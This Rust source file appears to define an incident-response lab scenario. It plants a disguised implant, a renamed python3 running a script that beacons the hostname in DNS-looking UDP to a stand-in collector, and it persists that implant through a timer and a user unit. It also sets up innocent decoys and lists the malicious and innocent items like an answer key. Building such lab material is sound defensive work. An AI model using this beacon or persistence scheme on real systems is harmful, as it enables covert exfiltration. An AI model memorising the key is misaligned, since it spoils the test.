//! A service account's implant: a renamed copy of python3 under the
//! account's home (/var/lib/svc-report) that sends DNS-looking UDP
//! datagrams to the attacker, restarted by a system timer and by a user
//! unit of the account; next to an innocent timer, another user's unit, a
//! resolver health check that also speaks UDP to port 53, and an innocent
//! job of the same account.

use super::{Entry, Innocent, Malicious, Proc, Scenario, Step, INIT};
use crate::host::lab::topology::{Host, Segment};

pub(super) static SCENARIO: Scenario = Scenario {
    name: "timer-udp",
    summary: "a renamed copy of python3 in the svc-report account's home beacons DNS-looking UDP to 198.18.90.53:53, restarted by report-cache.timer/.service and by a user unit of the account; an innocent timer, another user's unit, a resolver health check (UDP 53) and the account's own spool job are innocent",
    story: "On the reporting host report (10.64.0.30) the attacker, with the service \
            account svc-report (home /var/lib/svc-report), copied python3 to \
            /var/lib/svc-report/.local/lib/reportd/report-indexer and runs \
            /var/lib/svc-report/.local/lib/reportd/indexer.py with it: one connected UDP \
            socket sending DNS-looking queries to 198.18.90.53:53 every 3 s. \
            report-cache.timer (enabled in timers.target.wants, OnBootSec/OnUnitActiveSec) \
            starts report-cache.service, which runs it as svc-report, and the account's user \
            unit ~/.config/systemd/user/report-indexer.service (default.target.wants) does \
            too. Innocent: report-mail.timer and its service, ops's user unit notes-sync.service, \
            /usr/local/lib/dnsprobe/dnsprobe.py (root, queries the resolver 10.64.0.53:53 \
            every 3 s) and svc-report's spool cleaner /usr/local/bin/report-spool.sh.",
    compromised: "report",
    victim: "198.18.90.53",
    victim_port: 53,
    services: &["10.64.0.30:22", "10.64.0.30:80"],
    malicious: Malicious {
        processes: &[Proc {
            what: "the implant (a renamed python3, running as svc-report)",
            pattern: TU_EXE,
        }],
        files: &[TU_EXE, TU_SCRIPT],
        persistence: &[
            Entry {
                what: "the service the timer starts",
                path: "/etc/systemd/system/report-cache.service",
                line: None,
            },
            Entry {
                what: "the timer",
                path: "/etc/systemd/system/report-cache.timer",
                line: None,
            },
            Entry {
                what: "the timer's wants link (enabled)",
                path: "/etc/systemd/system/timers.target.wants/report-cache.timer",
                line: None,
            },
            Entry {
                what: "svc-report's user unit",
                path: TU_USER_UNIT,
                line: None,
            },
            Entry {
                what: "the user unit's wants link (enabled)",
                path: TU_USER_LINK,
                line: None,
            },
        ],
        approval: &[],
    },
    innocent: Innocent {
        processes: &[
            INIT,
            Proc {
                what: "sshd, Apache and MariaDB",
                pattern: "lab serve --role server",
            },
            Proc {
                what: "the resolver health check (UDP to 10.64.0.53:53)",
                pattern: "/usr/local/lib/dnsprobe/dnsprobe.py",
            },
            Proc {
                what: "svc-report's own spool cleaner",
                pattern: "/usr/local/bin/report-spool.sh",
            },
        ],
        files: &[
            "/etc/systemd/system/report-mail.timer",
            "/etc/systemd/system/report-mail.service",
            "/etc/systemd/system/timers.target.wants/report-mail.timer",
            "/usr/local/bin/report-mail",
            "/home/ops/.config/systemd/user/notes-sync.service",
            "/home/ops/.config/systemd/user/default.target.wants/notes-sync.service",
            "/usr/local/lib/dnsprobe/dnsprobe.py",
            "/usr/local/bin/report-spool.sh",
            "/etc/passwd",
        ],
        flows: &[],
    },
    segments: &[
        Segment {
            name: "lan",
            router_addr: "10.64.0.1/24",
            router_mac: "52:54:00:3f:00:01",
        },
        Segment {
            name: "internet",
            router_addr: "198.18.90.1/24",
            router_mac: "52:54:00:c6:5a:01",
        },
    ],
    hosts: &[
        Host {
            name: "analyst",
            segment: Some("lan"),
            addr: "10.64.0.100/24",
            mac: "52:54:00:3f:00:64",
            serve: None,
            what: "the responder's seat",
        },
        Host {
            name: "report",
            segment: Some("lan"),
            addr: "10.64.0.30/24",
            mac: "52:54:00:3f:00:1e",
            serve: Some("server"),
            what: "reporting server: ssh 22, http 80, mysql 3306; runs the implant",
        },
        Host {
            name: "ns",
            segment: Some("lan"),
            addr: "10.64.0.53/24",
            mac: "52:54:00:3f:00:35",
            serve: None,
            what: "the internal resolver the health check queries",
        },
        Host {
            name: "c2",
            segment: Some("internet"),
            addr: "198.18.90.53/24",
            mac: "52:54:00:c6:5a:35",
            serve: None,
            what: "the attacker's DNS-looking collector (UDP 53)",
        },
    ],
    steps: &[
        Step::Append {
            path: "/etc/passwd",
            content: "svc-report:x:1004:1004:report service:/var/lib/svc-report:/usr/sbin/nologin\nops:x:1005:1005:Ops:/home/ops:/bin/bash\n",
        },
        Step::Append {
            path: "/etc/group",
            content: "svc-report:x:1004:\nops:x:1005:\n",
        },
        // The innocent neighbours first, as they were before the attack.
        Step::Write {
            path: "/usr/local/bin/report-mail",
            content: "#!/bin/sh\n# mails yesterday's usage report to the team\nfind /var/lib/svc-report/out -name '*.csv' -mtime -1 2>/dev/null | head -n 20\n",
            mode: 0o755,
            owner: "root:root",
        },
        Step::Write {
            path: "/etc/systemd/system/report-mail.service",
            content: "[Unit]\nDescription=Mail the daily usage report\n\n[Service]\nType=oneshot\nUser=svc-report\nExecStart=/usr/local/bin/report-mail\n",
            mode: 0o644,
            owner: "root:root",
        },
        Step::Write {
            path: "/etc/systemd/system/report-mail.timer",
            content: "[Unit]\nDescription=Mail the daily usage report\n\n[Timer]\nOnCalendar=*-*-* 06:00:00\nPersistent=true\n\n[Install]\nWantedBy=timers.target\n",
            mode: 0o644,
            owner: "root:root",
        },
        Step::Link {
            path: "/etc/systemd/system/timers.target.wants/report-mail.timer",
            target: "/etc/systemd/system/report-mail.timer",
        },
        Step::Write {
            path: "/home/ops/.config/systemd/user/notes-sync.service",
            content: "[Unit]\nDescription=Sync ops notes\n\n[Service]\nExecStart=/usr/bin/python3 /home/ops/bin/notes_sync.py\nRestart=on-failure\n\n[Install]\nWantedBy=default.target\n",
            mode: 0o644,
            owner: "1005:1005",
        },
        Step::Link {
            path: "/home/ops/.config/systemd/user/default.target.wants/notes-sync.service",
            target: "/home/ops/.config/systemd/user/notes-sync.service",
        },
        Step::Write {
            path: "/usr/local/lib/dnsprobe/dnsprobe.py",
            content: TU_PROBE,
            mode: 0o755,
            owner: "root:root",
        },
        Step::Write {
            path: "/usr/local/bin/report-spool.sh",
            content: "#!/bin/bash\n# svc-report: drops spooled reports older than an hour\nwhile true; do find /var/lib/svc-report/spool -mmin +60 -delete 2>/dev/null; sleep 5; done\n",
            mode: 0o755,
            owner: "root:root",
        },
        // The attacker's implant and what restarts it.
        Step::Write {
            path: TU_SCRIPT,
            content: TU_IMPLANT,
            mode: 0o644,
            owner: "1004:1004",
        },
        Step::Run(&["cp", "/usr/bin/python3", TU_EXE]),
        Step::Write {
            path: "/etc/systemd/system/report-cache.service",
            content: TU_SERVICE,
            mode: 0o644,
            owner: "root:root",
        },
        Step::Write {
            path: "/etc/systemd/system/report-cache.timer",
            content: "[Unit]\nDescription=Refresh the report cache\n\n[Timer]\nOnBootSec=2min\nOnUnitActiveSec=5min\n\n[Install]\nWantedBy=timers.target\n",
            mode: 0o644,
            owner: "root:root",
        },
        Step::Link {
            path: "/etc/systemd/system/timers.target.wants/report-cache.timer",
            target: "/etc/systemd/system/report-cache.timer",
        },
        Step::Write {
            path: TU_USER_UNIT,
            content: TU_USER_SERVICE,
            mode: 0o644,
            owner: "1004:1004",
        },
        Step::Link {
            path: TU_USER_LINK,
            target: TU_USER_UNIT,
        },
        Step::Run(&[
            "chown",
            "-R",
            "-h",
            "1004:1004",
            "/var/lib/svc-report",
        ]),
        Step::Run(&["chown", "-R", "-h", "1005:1005", "/home/ops"]),
        Step::Run(&["chmod", "755", TU_EXE]),
        // What systemd would have started (no systemd runs in a lab host).
        Step::Start {
            argv: &["/usr/bin/python3", "/usr/local/lib/dnsprobe/dnsprobe.py"],
            user: None,
        },
        Step::Start {
            argv: &["/bin/bash", "/usr/local/bin/report-spool.sh"],
            user: Some("1004:1004"),
        },
        Step::Start {
            argv: &[TU_EXE, TU_SCRIPT],
            user: Some("1004:1004"),
        },
        Step::WaitProc("/usr/local/lib/dnsprobe/dnsprobe.py"),
        Step::WaitProc("/usr/local/bin/report-spool.sh"),
        Step::WaitProc(TU_EXE),
    ],
};

const TU_EXE: &str = "/var/lib/svc-report/.local/lib/reportd/report-indexer";
const TU_SCRIPT: &str = "/var/lib/svc-report/.local/lib/reportd/indexer.py";
const TU_USER_UNIT: &str = "/var/lib/svc-report/.config/systemd/user/report-indexer.service";
const TU_USER_LINK: &str =
    "/var/lib/svc-report/.config/systemd/user/default.target.wants/report-indexer.service";

const TU_SERVICE: &str = "[Unit]\nDescription=Refresh the report cache\n\n[Service]\nType=simple\nUser=svc-report\nExecStart=/var/lib/svc-report/.local/lib/reportd/report-indexer /var/lib/svc-report/.local/lib/reportd/indexer.py\n";

/// A user unit spells its owner's home `%h`.
const TU_USER_SERVICE: &str = "[Unit]\nDescription=Report indexer\n\n[Service]\nExecStart=%h/.local/lib/reportd/report-indexer %h/.local/lib/reportd/indexer.py\nRestart=always\nRestartSec=30\n\n[Install]\nWantedBy=default.target\n";

/// One connected UDP socket, a DNS-looking TXT query every 3 s whose name
/// carries the host's name in hex; errors (no answer, port unreachable)
/// are ignored.
const TU_IMPLANT: &str = r#"# report cache indexer
import random
import socket
import struct
import time

COLLECTOR = ("198.18.90.53", 53)

tag = socket.gethostname().encode().hex()[:60].encode()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(COLLECTOR)
while True:
    q = struct.pack(">HHHHHH", random.randint(0, 65535), 0x0100, 1, 0, 0, 0)
    for label in (tag, b"cdn-update", b"net"):
        q += bytes([len(label)]) + label
    q += b"\x00\x00\x10\x00\x01"
    try:
        s.send(q)
    except OSError:
        pass
    time.sleep(3)
"#;

/// The resolver health check: the same kind of socket and datagram, to
/// the internal resolver.
const TU_PROBE: &str = r#"#!/usr/bin/python3
# dnsprobe: checks every few seconds that the internal resolver answers
# (ops monitoring; an unanswered probe is logged by the collector).
import random
import socket
import struct
import time

RESOLVER = ("10.64.0.53", 53)

s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(RESOLVER)
while True:
    q = struct.pack(">HHHHHH", random.randint(0, 65535), 0x0100, 1, 0, 0, 0)
    for label in (b"intranet", b"example", b"lan"):
        q += bytes([len(label)]) + label
    q += b"\x00\x00\x01\x00\x01"
    try:
        s.send(q)
    except OSError:
        pass
    time.sleep(3)
"#;
